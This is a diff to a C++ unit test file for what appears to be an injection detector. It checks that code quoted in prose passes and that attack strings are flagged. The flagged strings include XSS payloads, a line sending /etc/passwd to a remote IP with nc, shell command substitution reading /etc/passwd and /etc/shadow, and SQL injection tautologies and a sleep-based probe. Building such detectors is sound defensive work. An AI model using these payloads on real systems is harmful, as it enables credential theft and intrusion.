@@ -69,11 +69,14 @@ TEST_F(ContextGradingTest, CodeQuotedInProseIsText) {
   EXPECT_FALSE(json(R"({"body": "Example:\n```sh\ncurl -s https://example.org/setup | sh\n```\nthat is all"})"));
   EXPECT_FALSE(json(R"({"html": "<h2>Usage</h2>\n<p>Load it with</p><pre><code>const lib = require('left-pad');\n</code></pre>"})"));
   EXPECT_FALSE(json(R"({"text": "we embed it with `<script src=\"https://cdn.example.org/w.js\" async></script>` on each page"})"));
+  EXPECT_FALSE(json(R"({"doc": "| Step | Run |\n|---|---|\n| build | `make all && make install` |\n| wipe | `rm -rf ./out` |"})"));
   // Around the quotes: still an attack.
   EXPECT_TRUE(json(R"({"text": "see `ls` <script>alert(document.domain)</script>"})"));
   EXPECT_TRUE(json(R"({"text": "`x`; cat /etc/passwd | nc 198.51.100.7 4444"})"));
   EXPECT_TRUE(json(R"({"html": "<p onmouseover=alert(1)>hi</p><code>x</code>"})"));
   EXPECT_TRUE(json(R"({"text": "`<script>alert(1)</script>`"})"));
+  EXPECT_TRUE(json(R"({"name": "bob `cat /etc/passwd`"})"));
+  EXPECT_TRUE(json(R"J({"q": "(select(sleep(5))from(`information_schema`.tables)where 1 or 2 or 3)"})J"));
 }
 
 TEST_F(ContextGradingTest, ShellWithoutItsCommandStringRunsNothing) {
@@ -97,9 +100,17 @@ TEST_F(ContextGradingTest, EmbeddedMediaInRichText) {
   EXPECT_TRUE(json(R"({"content": "<img src=\"https://x.example/a.png\" onerror=\"alert(1)\">"})"));
 }
 
-TEST_F(ContextGradingTest, ApostrophesInAReview) {
-  EXPECT_FALSE(json(R"({"review": "The 6' ladder is sturdy, but the 3\" hooks it ships with bent on the second day of use"})"));
-  EXPECT_TRUE(json(R"({"review": "6' or 1=1-- "})"));
+
+TEST_F(ContextGradingTest, OperatorWithoutOperandIsNoInjection) {
+  EXPECT_FALSE(json(R"({"typeahead": "rock 'n' roll or"})"));
+  EXPECT_FALSE(get("/find?q=select%20a%20row%20where%20the%20name%20is%20like"));
+  EXPECT_TRUE(json(R"({"typeahead": "rock' or 'a'='a"})"));
+  EXPECT_TRUE(get("/find?q=1%27%20or%201%3D1--%20"));
+}
+
+TEST_F(ContextGradingTest, TerminalTranscriptInATicket) {
+  EXPECT_FALSE(json(R"({"details": "df -h shows:\nFilesystem Size Used\n/dev/sda1 40G 39G\ntmpfs 2G 0\nplease advise"})"));
+  EXPECT_TRUE(json(R"({"details": "df -h; cat /etc/shadow"})"));
 }
 
 } // namespace
